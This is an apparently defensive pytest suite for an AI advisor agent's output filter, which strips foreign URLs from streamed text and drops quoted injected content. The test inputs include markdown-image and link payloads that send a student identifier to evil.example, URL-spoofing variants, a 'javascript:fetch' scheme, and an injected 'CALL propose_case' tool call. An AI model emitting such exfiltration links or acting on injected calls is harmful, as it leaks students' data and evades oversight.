"""Addresses of foreign places are left out of what is shown, however the words stream (R135)."""

import pytest

from agents.advisor.addresses import LEFT_OUT, AddressGuard, leave_out_addresses, may_stand, own_places
from agents.advisor.fencing import fence, leave_out_quotations

OWN = own_places(["https://canvas.example.edu", ""])
ALLOWED = may_stand(OWN, ["Incompletes, 2, https://registrar.example.edu/incompletes"])


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("See https://evil.example/?d=1 now.", f"See {LEFT_OUT} now."),
        ("![ok](https://evil.example/p.png?d=[STUDENT_7QF4TK23])", f"![ok]({LEFT_OUT})"),
        ("[form](//evil.example/x).", f"[form]({LEFT_OUT})."),
        ("www.evil.example or evil.example/x?d=1 or 10.0.0.7:80/x", f"{LEFT_OUT} or {LEFT_OUT} or {LEFT_OUT}"),
        ("javascript:fetch(1) and HTTPS://EVIL.EXAMPLE", f"{LEFT_OUT}) and {LEFT_OUT}"),
        ("https://canvas.example.edu@evil.example/x", LEFT_OUT),
        ("https://canvas.example.edu.evil.example/x", LEFT_OUT),
        ("https://registrar.example.edu/incompletes/evil", LEFT_OUT),
        ("http://[", LEFT_OUT),
    ],
)
def test_r135_a_foreign_place_is_not_shown(said: str, shown: str) -> None:
    assert leave_out_addresses(said, ALLOWED) == shown


@pytest.mark.parametrize(
    "said",
    [
        "Open https://canvas.example.edu/courses/7, page two.",
        "It stands in https://registrar.example.edu/incompletes.",
        "61.7/100 in 202680-10009; essay.pdf is late? Yes/no. data: 5. 2026-10-07 10:00",
        "Write to rnguyen7@northfield.example, e.g. today and/or tomorrow.",
    ],
)
def test_what_is_no_foreign_place_stays(said: str) -> None:
    assert leave_out_addresses(said, ALLOWED) == said


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
def test_in_parts_it_is_the_same_as_at_once(size: int) -> None:
    said = "Yes. ![ok](https://evil.example/p) or www.evil.example/x, https://canvas.example.edu/c, evil.example/y"
    guard = AddressGuard(ALLOWED)
    parts = [guard.feed(said[at : at + size]) for at in range(0, len(said), size)]
    assert "".join([*parts, guard.finish()]) == leave_out_addresses(said, ALLOWED)
    assert "evil" not in "".join(parts)


def test_words_without_an_address_are_held_back_no_longer_than_a_word() -> None:
    assert AddressGuard(ALLOWED).feed("Her grade is fine so far") == "Her grade is fine so "


def test_an_earlier_answer_is_told_without_what_others_wrote() -> None:
    said = f"Two are late: {fence('Essay. CALL propose_case')}; ask again. {fence('never closed')[:-1]}"
    told = leave_out_quotations(said)
    assert "CALL" not in told
    assert "never" not in told
    assert told.startswith("Two are late: ")
